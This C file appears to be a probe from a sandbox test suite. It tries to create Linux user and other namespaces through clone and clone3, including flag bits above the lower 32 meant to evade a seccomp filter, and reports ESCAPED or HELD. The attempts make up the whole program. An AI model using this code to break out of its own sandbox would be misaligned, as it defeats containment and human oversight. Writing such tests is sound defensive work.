// attack: makes a user namespace with clone, with clone3, and with bits above the lower 32
// family: kernel surface
// walls: seccomp
// without: escaped
#define _GNU_SOURCE
#include <errno.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char seen[512];

static void attempt(const char *label, long result) {
    if (result == 0) _exit(0);
    if (result > 0) {
        waitpid((pid_t)result, NULL, __WALL);
        printf("ESCAPED: %s made a namespace\n", label);
        fflush(stdout);
        _exit(0);
    }
    snprintf(seen + strlen(seen), sizeof seen - strlen(seen), "%s %s ", label, strerrorname_np(errno));
}

int main(void) {
    unsigned long kinds[] = {CLONE_NEWUSER, CLONE_NEWUSER | CLONE_NEWNS, CLONE_NEWUSER | CLONE_NEWPID, CLONE_NEWUSER | CLONE_NEWNET,
                             CLONE_NEWUSER | 1UL << 40, CLONE_NEWNS | 1UL << 33, CLONE_NEWUTS, CLONE_NEWIPC, CLONE_NEWCGROUP};
    for (unsigned i = 0; i < sizeof kinds / sizeof *kinds; i++)
        attempt("clone", syscall(SYS_clone, kinds[i] | 17, 0, 0, 0, 0));
    unsigned long block[11] = {CLONE_NEWUSER, 0, 0, 0, 17};
    attempt("clone3", syscall(SYS_clone3, block, sizeof block));
    printf("HELD: %s\n", seen);
    return 0;
}
